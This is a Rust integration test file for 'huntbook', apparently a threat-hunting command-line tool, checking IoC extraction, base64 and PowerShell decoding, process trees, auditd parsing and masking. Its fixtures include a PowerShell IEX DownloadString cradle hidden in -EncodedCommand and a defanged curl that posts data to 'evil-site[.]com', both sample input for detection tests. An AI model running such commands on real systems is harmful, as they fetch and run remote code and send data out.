//! The table commands end to end (`ioc`, `b64`, `proctree`, `auditd`, `mask`): the real
//! binary on small inputs written here, in CSV, JSON lines and Parquet, with the outputs
//! read back. Failures must exit non-zero with a message naming the file or column, and
//! must leave no output file behind.

mod common;

use std::io::{Read, Seek};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::Instant;

use arrow_array::cast::AsArray;
use arrow_array::{Array, ArrayRef, RecordBatch, StringArray};
use arrow_schema::DataType;
use common::{base64, wait_for, Outcome, RUN_LIMIT};
use huntbook_table::{read_table, write_table, Table};

fn tempdir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("huntbook-transforms-")
        .tempdir()
        .expect("a temporary directory")
}

/// Runs `huntbook ARGS` in `dir` with these extra environment variables (the masking
/// key only when given), stdin empty, for at most [`RUN_LIMIT`].
fn huntbook_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Outcome {
    // Files rather than pipes: nothing to drain while waiting, whatever the output size.
    let mut stdout = tempfile::tempfile().unwrap();
    let mut stderr = tempfile::tempfile().unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_huntbook"));
    cmd.current_dir(dir)
        .args(args)
        .env_remove("HUNTBOOK_MASK_KEY")
        .stdin(Stdio::null())
        .stdout(stdout.try_clone().unwrap())
        .stderr(stderr.try_clone().unwrap());
    for (key, value) in env {
        cmd.env(key, value);
    }
    let line = format!("huntbook {}", args.join(" "));
    let started = Instant::now();
    let mut child = cmd.spawn().expect("starting the huntbook binary");
    let Some(status) = wait_for(RUN_LIMIT, || {
        child.try_wait().expect("waiting for huntbook")
    }) else {
        let _ = child.kill();
        let _ = child.wait();
        panic!("`{line}` still running after {RUN_LIMIT:?}: killed it");
    };
    let read = |file: &mut std::fs::File| {
        let mut bytes = Vec::new();
        file.rewind().unwrap();
        file.read_to_end(&mut bytes).unwrap();
        bytes
    };
    let stdout = read(&mut stdout);
    let stderr = String::from_utf8_lossy(&read(&mut stderr)).into_owned();
    Outcome {
        status,
        code: status.code(),
        stdout,
        stderr,
        elapsed: started.elapsed(),
        line,
    }
}

fn huntbook(dir: &Path, args: &[&str]) -> Outcome {
    huntbook_env(dir, args, &[])
}

/// Exits with the usage code, says what `words` say on stderr, and prints nothing else.
fn assert_fails_with(out: &Outcome, words: &[&str]) {
    out.expect_code(2);
    for word in words {
        assert!(
            out.stderr.contains(word),
            "`{}`: stderr lacks {word:?}:\n{}",
            out.line,
            out.stderr
        );
    }
    assert!(
        out.stdout.is_empty(),
        "`{}` printed {:?}",
        out.line,
        out.stdout_text()
    );
}

/// The files in `dir`, sorted (to check that a failed command wrote nothing).
fn files(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

/// Writes text columns as a table file (its format from the extension).
fn write_strings(path: &Path, columns: &[(&str, Vec<&str>)]) {
    let batch = RecordBatch::try_from_iter(columns.iter().map(|(name, values)| {
        (
            *name,
            Arc::new(StringArray::from(values.clone())) as ArrayRef,
        )
    }))
    .unwrap();
    write_table(path, &Table::from_batches(batch.schema(), vec![batch])).unwrap();
}

fn read(path: &Path) -> RecordBatch {
    read_table(path)
        .unwrap_or_else(|e| panic!("reading {}: {e}", path.display()))
        .concat()
        .unwrap()
}

/// A column as text (nulls as `None`), whatever its string type.
fn strings(batch: &RecordBatch, name: &str) -> Vec<Option<String>> {
    let column = batch
        .column_by_name(name)
        .unwrap_or_else(|| panic!("no column {name} in {:?}", batch.schema()));
    let value = |row: usize| match column.data_type() {
        DataType::Utf8 => column.as_string::<i32>().value(row).to_string(),
        DataType::LargeUtf8 => column.as_string::<i64>().value(row).to_string(),
        other => panic!("column {name} is {other}, not text"),
    };
    (0..column.len())
        .map(|row| column.is_valid(row).then(|| value(row)))
        .collect()
}

fn bools(batch: &RecordBatch, name: &str) -> Vec<bool> {
    batch
        .column_by_name(name)
        .unwrap()
        .as_boolean()
        .iter()
        .map(|b| b.unwrap())
        .collect()
}

fn ints(batch: &RecordBatch, name: &str) -> Vec<i64> {
    let column = batch.column_by_name(name).unwrap();
    column
        .as_primitive::<arrow_array::types::Int64Type>()
        .values()
        .to_vec()
}

// ---------------------------------------------------------------------------------
// ioc

const EVENTS_CSV: &str = "\
TimeGenerated,Computer,CommandLine
2024-07-01T13:05:00Z,web01,\"curl hxxps://evil-site[.]com/a -d from=user@example.com\"
2024-07-01T13:06:00Z,web01,ping -n 1 10.1.2.3
2024-07-01T13:07:00Z,web02,\"certutil -hashfile a.exe SHA256 => 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\"
2024-07-01T13:08:00Z,web02,
";

#[test]
fn ioc_extract_finds_defanged_urls_and_emails_in_key_value_text() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "events.csv", EVENTS_CSV);
    let out = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "events.csv",
            "--column",
            "CommandLine",
            "-o",
            "iocs.csv",
        ],
    );
    out.success();
    assert!(out.stderr.contains("iocs.csv"), "{}", out.stderr);
    assert!(
        !out.stderr.contains('\r') && !out.stderr.contains('\x1b'),
        "no spinner off a terminal: {:?}",
        out.stderr
    );

    let iocs = read(&dir.join("iocs.csv"));
    let names: Vec<_> = iocs
        .schema()
        .fields()
        .iter()
        .map(|f| f.name().clone())
        .collect();
    assert_eq!(names, ["IoCType", "Observable", "SourceIndex", "Input"]);
    let found: Vec<(String, String, i64)> = strings(&iocs, "IoCType")
        .into_iter()
        .zip(strings(&iocs, "Observable"))
        .zip(ints(&iocs, "SourceIndex"))
        .map(|((t, o), i)| (t.unwrap(), o.unwrap(), i))
        .collect();
    for expected in [
        ("url", "hxxps://evil-site[.]com/a", 0),
        ("email", "user@example.com", 0),
        ("dns", "example.com", 0),
        ("ipv4", "10.1.2.3", 1),
        (
            "sha256_hash",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            2,
        ),
    ] {
        let expected = (expected.0.to_string(), expected.1.to_string(), expected.2);
        assert!(found.contains(&expected), "{expected:?} not in {found:#?}");
    }
    assert!(
        !found.iter().any(|(_, o, _)| o.contains("from=")),
        "the email stops at '=': {found:#?}"
    );

    // Short type names, plain forms, JSON lines out.
    let out = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "events.csv",
            "-c",
            "CommandLine",
            "--types",
            "ip,url,sha256",
            "--refang",
            "-o",
            "iocs.jsonl",
        ],
    );
    out.success();
    let iocs = read(&dir.join("iocs.jsonl"));
    let types = strings(&iocs, "IoCType");
    assert!(
        types
            .iter()
            .all(|t| ["ipv4", "url", "sha256_hash"].contains(&t.as_deref().unwrap())),
        "{types:?}"
    );
    assert!(strings(&iocs, "Observable").contains(&Some("https://evil-site.com/a".into())));
}

#[test]
fn ioc_type_names_one_observable() {
    let tmp = tempdir();
    let dir = tmp.path();
    for (value, expected) in [
        ("hxxps://evil-site[.]com/a", "url"),
        ("10.1.2.3", "ipv4"),
        ("user@example.com", "email"),
        ("evil-site[.]com", "dns"),
        ("44d88612fea8a8f36de82e1278abb02f", "md5_hash"),
        ("3395856ce81f2b7382dee72602f798b642f14140", "sha1_hash"),
    ] {
        let out = huntbook(dir, &["ioc", "type", value]);
        out.success();
        assert_eq!(out.stdout_text(), format!("{expected}\n"), "{value}");
    }
    // One digit too many for an md5: not a hash, and the length is the reason given.
    let out = huntbook(dir, &["ioc", "type", "44d88612fea8a8f36de82e1278abb02fa"]);
    out.expect_code(1);
    assert!(out.stdout.is_empty());
    assert!(out.stderr.contains("33 hex digits"), "{}", out.stderr);
}

// ---------------------------------------------------------------------------------
// b64

/// PowerShell's `-EncodedCommand`: base64 of the UTF-16LE script.
fn encoded_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&utf16)
}

#[test]
fn b64_unpack_decodes_an_encoded_powershell_command() {
    let tmp = tempdir();
    let dir = tmp.path();
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
    let command = format!(
        "powershell.exe -nop -w hidden -EncodedCommand {}",
        encoded_command(script)
    );
    write_strings(
        &dir.join("events.parquet"),
        &[
            ("Computer", vec!["web01", "web02"]),
            ("CommandLine", vec!["cmd.exe /c whoami", &command]),
        ],
    );
    let out = huntbook(
        dir,
        &[
            "b64",
            "unpack",
            "events.parquet",
            "--column",
            "CommandLine",
            "-o",
            "decoded.parquet",
        ],
    );
    out.success();

    let decoded = read(&dir.join("decoded.parquet"));
    assert_eq!(
        decoded.num_rows(),
        1,
        "one decoded item, from the second row"
    );
    assert_eq!(
        strings(&decoded, "decoded_string"),
        [Some(script.to_string())]
    );
    assert_eq!(
        strings(&decoded, "encoding_type"),
        [Some("utf-16".to_string())]
    );
    assert_eq!(ints(&decoded, "src_index"), [1]);
    let full = strings(&decoded, "full_decoded_string")[0].clone().unwrap();
    assert!(
        full.starts_with("powershell.exe -nop -w hidden -EncodedCommand <decoded"),
        "{full}"
    );
    assert!(full.contains(script), "{full}");
}

// ---------------------------------------------------------------------------------
// proctree

/// Sysmon process-creation events on one host: explorer -> cmd -> whoami, whose first
/// parent (userinit) is not in the log, and a svchost whose parent (services) is not
/// either.
const PROCS_CSV: &str = "\
UtcTime,Computer,EventID,Image,ProcessId,ParentImage,ParentProcessId,CommandLine,User,LogonId
2024-07-01 13:00:00.000,web01,1,C:\\Windows\\explorer.exe,0x10a0,C:\\Windows\\System32\\userinit.exe,0x1000,explorer.exe,CORP\\alice,0x3e7
2024-07-01 13:05:00.000,web01,1,C:\\Windows\\System32\\cmd.exe,0x1a4c,C:\\Windows\\explorer.exe,0x10a0,cmd.exe /c whoami,CORP\\alice,0x3e7
2024-07-01 13:05:01.000,web01,1,C:\\Windows\\System32\\whoami.exe,0x2b00,C:\\Windows\\System32\\cmd.exe,0x1a4c,whoami,CORP\\alice,0x3e7
2024-07-01 13:07:00.000,web01,1,C:\\Windows\\System32\\svchost.exe,0x300,C:\\Windows\\System32\\services.exe,0x2a0,svchost -k netsvcs,SYSTEM,0x3e7
";

#[test]
fn proctree_build_links_parents_and_summarises() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "procs.csv", PROCS_CSV);
    let out = huntbook(
        dir,
        &[
            "proctree",
            "build",
            "procs.csv",
            "-o",
            "tree.parquet",
            "--summary",
        ],
    );
    out.success();
    assert_eq!(
        out.stdout_text(),
        "Processes: 6\nRootProcesses: 2\nLeafProcesses: 2\nBranchProcesses: 2\nIsolatedProcesses: 0\nLargestTreeDepth: 4\n"
    );
    assert!(
        out.stderr.contains("sysmon"),
        "the inferred schema is named: {}",
        out.stderr
    );

    let tree = read(&dir.join("tree.parquet"));
    let keys = strings(&tree, "proc_key");
    let parents = strings(&tree, "parent_key");
    let (is_root, is_leaf) = (bools(&tree, "IsRoot"), bools(&tree, "IsLeaf"));
    let row = |name: &str| {
        keys.iter()
            .position(|k| k.as_deref().unwrap().contains(name))
            .unwrap_or_else(|| panic!("{name} in {keys:?}"))
    };
    let (userinit, explorer, cmd, whoami) = (
        row("userinit.exe"),
        row("explorer.exe"),
        row("cmd.exe"),
        row("whoami.exe"),
    );
    assert_eq!(
        keys[cmd].as_deref(),
        Some("c:\\windows\\system32\\cmd.exe|0x1a4c|2024-07-01 13:05:00.000000")
    );
    assert_eq!(parents[cmd], keys[explorer]);
    assert_eq!(parents[whoami], keys[cmd]);
    assert_eq!(
        parents[explorer], keys[userinit],
        "the missing parent is inferred"
    );
    assert_eq!(parents[userinit], None);
    assert!(is_root[userinit] && !is_root[explorer] && !is_root[cmd]);
    assert!(is_leaf[whoami] && is_leaf[row("svchost.exe")] && !is_leaf[cmd]);
}

#[test]
fn proctree_show_prints_the_tree_holding_a_process() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "procs.csv", PROCS_CSV);
    let out = huntbook(
        dir,
        &["proctree", "show", "procs.csv", "--root", "cmd.exe|0x1a4c"],
    );
    out.success();
    let text = out.stdout_text();
    let lines: Vec<&str> = text.lines().filter(|l| l.contains("Process:")).collect();
    assert_eq!(
        lines,
        [
            "+  Process: C:\\Windows\\System32\\userinit.exe  PID: 0x1000",
            "   +--  Process: C:\\Windows\\explorer.exe  PID: 0x10a0",
            "      +--  Process: C:\\Windows\\System32\\cmd.exe  PID: 0x1a4c",
            "         +--  Process: C:\\Windows\\System32\\whoami.exe  PID: 0x2b00",
        ],
        "{text}"
    );
    assert!(
        text.contains("Cmdline: cmd.exe /c whoami") && text.contains("Account: CORP\\alice"),
        "{text}"
    );

    let all = huntbook(
        dir,
        &[
            "proctree",
            "show",
            "procs.csv",
            "--schema",
            "sysmon",
            "--brief",
        ],
    );
    all.success();
    let text = all.stdout_text();
    assert!(
        text.contains("svchost.exe") && text.contains("whoami.exe"),
        "{text}"
    );
    assert!(!text.contains("Time:"), "--brief leaves out times: {text}");

    let missing = huntbook(
        dir,
        &["proctree", "show", "procs.csv", "--root", "evil.exe|0x1"],
    );
    assert_fails_with(&missing, &["evil.exe|0x1"]);
}

// ---------------------------------------------------------------------------------
// auditd

const AUDIT_LOG: &str = "\
type=SYSCALL msg=audit(1719839100.123:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1200 pid=1234 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"
type=EXECVE msg=audit(1719839100.123:501): argc=3 a0=\"curl\" a1=\"-o\" a2=\"/tmp/x\"
this line was cut by a full disk
type=EOE msg=audit(1719839100.123:501):
type=USER_LOGIN msg=audit(1719839200.000:502): pid=999 uid=0 auid=1000 ses=4 msg='op=login acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.4 terminal=ssh res=success'
";

#[test]
fn auditd_parse_reports_malformed_lines_and_keeps_the_rest() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "audit.log", AUDIT_LOG);
    let out = huntbook(dir, &["auditd", "parse", "audit.log", "-o", "events.csv"]);
    out.success();
    assert!(
        out.stderr.contains("audit.log: line 3:"),
        "the bad line is named: {}",
        out.stderr
    );
    assert!(
        !out.stderr.contains("line 1:") && !out.stderr.contains("line 5:"),
        "{}",
        out.stderr
    );

    let events = read(&dir.join("events.csv"));
    assert_eq!(
        strings(&events, "EventType"),
        [Some("SYSCALL_EXECVE".into()), Some("USER_LOGIN".into())]
    );
    assert_eq!(
        strings(&events, "cmdline")[0].as_deref(),
        Some("curl -o /tmp/x")
    );
    assert_eq!(ints(&events, "pid"), [1234, 999]);

    let out = huntbook(
        dir,
        &[
            "auditd",
            "parse",
            "audit.log",
            "--event-type",
            "USER_LOGIN",
            "-o",
            "logins.parquet",
        ],
    );
    out.success();
    let logins = read(&dir.join("logins.parquet"));
    assert_eq!(strings(&logins, "acct"), [Some("alice".into())]);
}

// ---------------------------------------------------------------------------------
// mask

const SIGNINS_JSONL: &str = r#"{"TimeGenerated": "2024-07-01T13:05:00Z", "Account": "CORP\\alice", "IpAddress": "203.0.113.7", "Notes": "first"}
{"TimeGenerated": "2024-07-01T13:06:00Z", "Account": "CORP\\bob", "IpAddress": "10.1.2.3", "Notes": "second"}
{"TimeGenerated": "2024-07-01T13:07:00Z", "Account": "CORP\\alice", "IpAddress": "203.0.113.7", "Notes": "third"}
"#;

#[test]
fn mask_gives_the_same_pseudonyms_for_one_key_only() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "signins.jsonl", SIGNINS_JSONL);
    let key = ("HUNTBOOK_MASK_KEY", "correct-horse-battery-staple");
    let mask = |output: &str, key: (&str, &str), extra: &[&str]| {
        let mut args = vec!["mask", "signins.jsonl", "-o", output];
        args.extend(extra);
        let out = huntbook_env(dir, &args, &[key]);
        out.success();
        assert!(
            !out.stderr.contains(key.1),
            "the key is never shown: {}",
            out.stderr
        );
        read(&dir.join(output))
    };
    let first = mask("a.jsonl", key, &[]);
    let again = mask("b.jsonl", key, &[]);
    let other = mask("c.jsonl", ("HUNTBOOK_MASK_KEY", "another-key"), &[]);

    let accounts = strings(&first, "Account");
    assert_eq!(
        accounts,
        strings(&again, "Account"),
        "same key, same pseudonyms"
    );
    assert_eq!(strings(&first, "IpAddress"), strings(&again, "IpAddress"));
    assert_ne!(
        accounts,
        strings(&other, "Account"),
        "another key, other pseudonyms"
    );
    assert_eq!(accounts[0], accounts[2], "one account, one pseudonym");
    assert_ne!(accounts[0], accounts[1]);
    assert!(accounts.iter().all(
        |a| !a.as_deref().unwrap().contains("alice") && !a.as_deref().unwrap().contains("bob")
    ));
    assert_ne!(
        strings(&first, "IpAddress")[0].as_deref(),
        Some("203.0.113.7")
    );
    assert_eq!(
        strings(&first, "Notes"),
        strings(&read(&dir.join("signins.jsonl")), "Notes"),
        "not in the map"
    );

    // --columns adds a column to the map and takes one out of it.
    let custom = mask("d.jsonl", key, &["--columns", "Notes=str,IpAddress=keep"]);
    assert_ne!(strings(&custom, "Notes")[0].as_deref(), Some("first"));
    assert_eq!(
        strings(&custom, "IpAddress")[0].as_deref(),
        Some("203.0.113.7")
    );

    let before = files(dir);
    let missing = huntbook(dir, &["mask", "signins.jsonl", "-o", "e.jsonl"]);
    assert_fails_with(&missing, &["HUNTBOOK_MASK_KEY"]);
    assert_eq!(files(dir), before, "nothing written without a key");
}

// ---------------------------------------------------------------------------------
// Bad input

#[test]
fn bad_inputs_fail_clearly_and_write_nothing() {
    let tmp = tempdir();
    let dir = tmp.path();
    write(dir, "events.csv", EVENTS_CSV);
    write(
        dir,
        "ragged.csv",
        "Computer,CommandLine\nweb01,whoami\nweb02\n",
    );
    write(dir, "notes.txt", "CommandLine\nwhoami\n");
    write(dir, "procs.csv", PROCS_CSV);
    let before = files(dir);

    let unknown_column = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "events.csv",
            "--column",
            "Commandline",
            "-o",
            "iocs.csv",
        ],
    );
    assert_fails_with(
        &unknown_column,
        &[
            "events.csv",
            "'Commandline'",
            "TimeGenerated, Computer, CommandLine",
        ],
    );
    let unknown_column = huntbook(
        dir,
        &[
            "b64",
            "unpack",
            "events.csv",
            "--column",
            "Cmd",
            "-o",
            "out.parquet",
        ],
    );
    assert_fails_with(&unknown_column, &["events.csv", "'Cmd'", "CommandLine"]);

    let bad_output = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "events.csv",
            "-c",
            "CommandLine",
            "-o",
            "iocs.xlsx",
        ],
    );
    assert_fails_with(&bad_output, &["iocs.xlsx", ".csv", ".jsonl", ".parquet"]);
    let bad_input = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "notes.txt",
            "-c",
            "CommandLine",
            "-o",
            "iocs.csv",
        ],
    );
    assert_fails_with(&bad_input, &["notes.txt", "unknown table format"]);
    let missing = huntbook(dir, &["proctree", "build", "nowhere.csv", "-o", "tree.csv"]);
    assert_fails_with(&missing, &["nowhere.csv"]);

    let ragged = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "ragged.csv",
            "-c",
            "CommandLine",
            "-o",
            "iocs.csv",
        ],
    );
    assert_fails_with(&ragged, &["ragged.csv"]);
    let bad_schema = huntbook(
        dir,
        &[
            "proctree",
            "build",
            "procs.csv",
            "--schema",
            "sysmn",
            "-o",
            "tree.csv",
        ],
    );
    assert_fails_with(&bad_schema, &["sysmn", "sysmon"]);
    let bad_type = huntbook(
        dir,
        &[
            "ioc",
            "extract",
            "events.csv",
            "-c",
            "CommandLine",
            "-t",
            "sha512",
            "-o",
            "x.csv",
        ],
    );
    assert_fails_with(&bad_type, &["sha512", "sha256_hash"]);

    assert_eq!(
        files(dir),
        before,
        "no output and no temporary file left behind"
    );
}
